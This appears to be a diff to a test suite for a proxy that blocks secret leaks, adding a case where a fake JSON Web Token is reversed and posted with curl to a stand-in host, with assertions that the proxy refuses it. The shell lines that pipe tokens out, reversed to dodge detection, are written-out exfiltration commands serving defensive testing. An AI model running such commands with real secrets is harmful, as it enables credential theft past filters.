@@ -84,6 +84,9 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
     (await upstream.received()).some((r) => String(r.path) === path);
   const token = "gh" + "p_Zq8Lr2Xv9Kt4Wm7Pn3Bc6Hd1Fj5Gs0Ya8Ue2";
   const SLACK = "xo" + "xb-2394857610-5829104738261-Zq8Lw2Rt9Kt4mXv7Pq3Ns6Yb";
+  const claims = btoa(JSON.stringify({ sub: "1234567890", scope: "read:all ".repeat(40) }));
+  const JWT = `${btoa('{"alg":"HS256","typ":"JWT"}')}.${claims}.`.replaceAll("=", "") +
+    "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
   try {
     await t.step(
       "a chunked body over the limit is refused, and its URL is scanned first",
@@ -384,7 +387,10 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
             "curl -sS -o /tmp/refused -w '%{http_code}' --data-binary @- https://plain.fake.test/v1/b32; echo; cat /tmp/refused; echo; " +
             // A prefix whose head repeats a character (Slack's `xox`).
             `printf %s '${SLACK}' | rev | curl -sS -o /tmp/refused -w '%{http_code}' ` +
-            "--data-binary @- https://plain.fake.test/v1/slackrev; echo; cat /tmp/refused",
+            "--data-binary @- https://plain.fake.test/v1/slackrev; echo; cat /tmp/refused; echo; " +
+            // A JWT: its parts are a dot apart.
+            `printf %s '${JWT}' | rev | curl -sS -o /tmp/refused -w '%{http_code}' ` +
+            "--data-binary @- https://plain.fake.test/v1/jwtrev; echo; cat /tmp/refused",
         );
         assert.match(
           turned.stdout,
@@ -403,9 +409,10 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
           turned.stdout,
           /\n403\n.*Slack token \(rule slack-token\) in the body, reversed/,
         );
+        assert.match(turned.stdout, /\n403\n.*JSON Web Token \(rule jwt\) in the body, reversed/);
         assert.equal(
           turned.stdout.match(/^403$/gm)?.length,
-          11,
+          12,
           `each is refused: ${turned.stdout}`,
         );
         const reversed = [...token].reverse().join("");
@@ -422,6 +429,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
             "/v1/png",
             "/v1/b32",
             "/v1/slackrev",
+            "/v1/jwtrev",
           ]
         ) {
           assert.ok(!(await reached(path)), `nothing reached ${path}`);
